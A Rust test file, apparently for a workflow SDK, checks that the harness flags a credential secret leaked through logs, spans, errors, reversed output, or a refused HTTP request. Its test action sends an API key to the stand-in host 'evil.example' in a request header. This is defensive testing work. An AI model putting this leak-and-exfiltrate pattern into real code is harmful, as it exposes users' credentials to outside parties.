//! Canaries: no secret in a journal, a log, an error, an output or a request that was refused.

use super::*;

/// Key of the weather service, tattled.
#[derive(Action)]
#[action(id = "web.tattle", version = "1.0", pure, capabilities(net(param = "url")))]
struct Tattle {
    /// The key.
    key: Cred<WeatherKey>,
}

impl SimpleAction for Tattle {
    type Input = Tale;
    type Output = String;

    async fn execute(&self, input: Tale, ctx: &ActionContext<Self>) -> Result<String> {
        let key = self.key.0.expose_secret();
        match input.how.as_str() {
            "log" => tracing::info!(key, "A line with too much in it."),
            "quiet log" => tracing::trace!(target: "deep", "{}", key.to_uppercase()),
            "span" => drop(tracing::debug_span!("call", key).entered()),
            "error" => return Err(ActionError::permanent("web.refused", format!("the key {key} was refused"))),
            "request" => {
                // Whoever swallows the refusal leaks all the same.
                let _ = ctx.http().get(&input.url).header("x-api-key", key).send().await;
            }
            "backwards" => return Ok(key.chars().rev().collect()),
            _ => {}
        }
        Ok("fine".to_owned())
    }
}

/// What to tattle.
#[derive(Parameters)]
struct Tale {
    /// Where to.
    #[param(format = "uri")]
    url: String,
    /// How.
    how: String,
}

const TATTLE: &str = "
nebula: 1
id: tattle
nodes:
  - id: tattle
    action: web.tattle@1
    parameters: { url: !expr $input.url, how: !expr $input.how }
    credentials: { key: weather }
";

fn tattle(how: &str) -> nebula_sdk::testing::TestRun {
    let flow = TestFlow::new(7).flow(TATTLE).action::<Tattle>().grant("net:one.example:443");
    flow.run_blocking(json!({ "url": "https://evil.example/", "how": how }))
}

#[test]
fn a_credential_that_is_not_set_is_made_up() {
    assert_eq!(tattle("not at all").status(), ExecutionStatus::Completed);
}

#[test]
#[should_panic(
    expected = "a line of `it::flow_testing::secrets` in the log shows the secret of the credential `weather`"
)]
fn a_secret_in_the_log_fails_the_test() {
    let _ = tattle("log");
}

#[test]
#[should_panic(expected = "a line of `deep` in the log shows the secret of the credential `weather` (seed 7)")]
fn a_secret_in_a_line_that_nobody_would_see_fails_the_test_too() {
    let _ = tattle("quiet log");
}

#[test]
#[should_panic(expected = "a span of `it::flow_testing::secrets` in the log shows the secret")]
fn a_secret_in_a_span_fails_the_test() {
    let _ = tattle("span");
}

#[test]
#[should_panic(expected = "(attempt_finished of `tattle`) shows the secret of the credential `weather`")]
fn a_secret_in_an_error_fails_the_test() {
    let _ = tattle("error");
}

#[test]
#[should_panic(expected = "(attempt_finished of `tattle`) shows the secret of the credential `weather`")]
fn a_secret_that_is_turned_around_fails_the_test() {
    let _ = tattle("backwards");
}

#[test]
#[should_panic(
    expected = "what `tattle` wanted to send without the grant `net:evil.example:443` shows the secret of the credential"
)]
fn a_secret_in_a_request_that_is_refused_fails_the_test() {
    let _ = tattle("request");
}
